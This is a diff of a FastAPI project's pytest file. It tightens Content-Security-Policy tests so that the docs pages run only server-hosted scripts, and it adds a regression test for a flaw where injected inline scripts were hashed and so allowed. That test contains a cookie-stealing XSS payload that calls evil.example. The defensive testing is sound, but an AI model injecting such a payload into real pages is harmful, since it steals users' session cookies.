@@ -19,6 +19,7 @@ from pathlib import Path
 import httpx
 import pytest
 from fastapi import FastAPI, Request
+from fastapi.responses import HTMLResponse
 from fastapi.testclient import TestClient
 from sqlalchemy import func, select
 from sqlalchemy.orm import Session, sessionmaker
@@ -34,7 +35,6 @@ from app.security import (
     UnsafeConfigurationError,
     check_production_settings,
     client_address,
-    page_csp,
     production_problems,
 )
 from app.settings import Settings
@@ -379,27 +379,37 @@ def directives(policy: str) -> dict[str, list[str]]:
     return {name: values for name, *values in parts}
 
 
-def test_the_docs_page_may_run_its_own_inline_script_and_no_other(client: TestClient) -> None:
-    page = client.get("/docs")
-    (script,) = re.findall(rb"<script>(.*?)</script>", page.content, re.DOTALL)
-    digest = base64.b64encode(hashlib.sha256(script).digest()).decode()
-    policy = directives(page.headers["content-security-policy"])
-    assert policy["script-src"] == ["'self'", f"'sha256-{digest}'"]
-    assert policy["default-src"] == ["'none'"]
-    assert policy["img-src"][:2] == ["'self'", "data:"]
-
-    redoc = directives(client.get("/redoc").headers["content-security-policy"])
-    assert redoc["script-src"] == ["'self'"]
-    assert redoc["worker-src"] == ["blob:"]
+def _sha256(script: bytes) -> str:
+    return f"'sha256-{base64.b64encode(hashlib.sha256(script).digest()).decode()}'"
 
 
-def test_page_csp_hashes_inline_scripts_only() -> None:
-    html = (
-        b'<script src="/a.js"></script><script>one()</script><SCRIPT type="module">two()</SCRIPT>'
-    )
-    hashes = directives(page_csp(html))["script-src"][1:]
-    expected = [base64.b64encode(hashlib.sha256(s).digest()).decode() for s in (b"one()", b"two()")]
-    assert hashes == [f"'sha256-{digest}'" for digest in expected]
+def test_the_docs_pages_run_the_servers_own_files_and_nothing_inline(client: TestClient) -> None:
+    for path in ("/docs", "/redoc"):
+        page = client.get(path)
+        scripts = re.findall(rb"<script([^>]*)>(.*?)</script>", page.content, re.DOTALL)
+        assert scripts, path
+        assert all(b"src=" in attributes and not text.strip() for attributes, text in scripts)
+        policy = directives(page.headers["content-security-policy"])
+        assert policy["script-src"] == ["'self'"]
+        assert policy["default-src"] == ["'none'"]
+        assert policy["img-src"][:2] == ["'self'", "data:"]
+        assert policy["worker-src"] == ["blob:"]
+    assert b"SwaggerUIBundle(" in client.get("/assets/docs.js").content
+
+
+def test_a_script_injected_into_a_page_is_not_allowed_to_run(database_url: str) -> None:
+    """The policy was computed from the page as sent, hashing every inline script in it: one
+    injected into the page (through any text it shows) was allowed with the rest."""
+    app = create_app(Settings(database_url=database_url))
+    injected = b"fetch('https://evil.example/?' + document.cookie)"
+
+    @app.get("/injected")
+    def injected_page() -> HTMLResponse:
+        return HTMLResponse(b"<p>hello</p><script>" + injected + b"</script>")
+
+    policy = TestClient(app).get("/injected").headers["content-security-policy"]
+    assert _sha256(injected) not in policy
+    assert directives(policy)["script-src"] == ["'self'"]
 
 
 # --- request body limit -------------------------------------------------------------------
